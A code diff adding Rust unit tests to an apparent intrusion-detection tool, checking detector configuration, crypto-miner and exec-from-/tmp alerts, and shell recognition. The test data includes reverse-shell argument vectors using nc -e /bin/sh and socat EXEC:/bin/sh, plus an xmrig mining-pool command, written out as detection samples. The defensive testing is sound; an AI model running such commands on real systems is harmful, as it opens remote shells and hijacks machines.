@@ -204,3 +204,79 @@ pub(crate) fn is_command_shell(name: &str) -> bool {
 pub(crate) fn command_line(argv: &[String]) -> String {
     argv.join(" ")
 }
+
+#[cfg(test)]
+mod tests {
+    use super::{testing::*, *};
+
+    #[test]
+    fn every_detector_by_default_and_disabled_ones_left_out() {
+        let s = Scratch::new("all");
+        let cfg = s.config();
+        let ids: Vec<&str> = detectors(&cfg).unwrap().iter().map(|d| d.id()).collect();
+        assert_eq!(ids, IDS);
+        for id in IDS {
+            let mut cfg = s.config();
+            cfg.disabled.insert(id.to_owned());
+            let ids: Vec<&str> = detectors(&cfg).unwrap().iter().map(|d| d.id()).collect();
+            assert_eq!(ids.len(), IDS.len() - 1);
+            assert!(!ids.contains(&id), "{id} disabled but created");
+        }
+        let mut bad = s.config();
+        bad.builtin.tmp_dirs = vec!["tmp".into()];
+        assert!(matches!(detectors(&bad), Err(DetectError::Invalid { .. })));
+    }
+
+    #[test]
+    fn the_stage_runs_them_and_a_disabled_one_stays_quiet() {
+        let s = Scratch::new("stage");
+        let mut cfg = s.config();
+        let ev = exec(0.0, 10, 1, "/tmp/xmrig", &["xmrig", "-o", "stratum+tcp://p:3333"]);
+        let mut stage = crate::detect::Detect::new(&cfg).unwrap();
+        let mut out = Vec::new();
+        stage.process(&ev, &mut out);
+        let rules: Vec<String> = out
+            .iter()
+            .map(|e| match &e.body {
+                crate::events::Body::Alert(a) => a.rule.to_string(),
+                _ => panic!("not an alert: {e:?}"),
+            })
+            .collect();
+        assert_eq!(rules, ["exec-from-tmp", "crypto-miner"]);
+        cfg.disabled.insert("crypto-miner".into());
+        let mut stage = crate::detect::Detect::new(&cfg).unwrap();
+        out.clear();
+        stage.process(&ev, &mut out);
+        assert_eq!(out.len(), 1);
+    }
+
+    #[test]
+    fn shells_and_interpreters() {
+        let argv = |a: &[&str]| a.iter().map(|s| s.to_string()).collect::<Vec<_>>();
+        for name in [
+            "sh",
+            "bash",
+            "-bash",
+            "dash",
+            "zsh",
+            "python",
+            "python3",
+            "python3.11",
+            "perl",
+            "perl5.36",
+            "ruby",
+        ] {
+            assert!(is_shell(name, &[]), "{name}");
+        }
+        for name in ["shred", "bashbug", "pythonista", "node", "ls", "sshd"] {
+            assert!(!is_shell(name, &[]), "{name}");
+        }
+        assert!(is_shell("nc", &argv(&["nc", "-e", "/bin/sh", "h", "1"])));
+        assert!(!is_shell("nc", &argv(&["nc", "h", "1"])));
+        assert!(is_shell("socat", &argv(&["socat", "TCP:h:1", "EXEC:/bin/sh"])));
+        let mut bb = exec(0.0, 1, 1, "/bin/busybox", &["busybox", "sh"]);
+        bb.exe = Some("/bin/busybox".into());
+        let crate::events::Body::Exec(x) = &bb.body else { unreachable!() };
+        assert_eq!(program_name(&bb, x), "sh");
+    }
+}
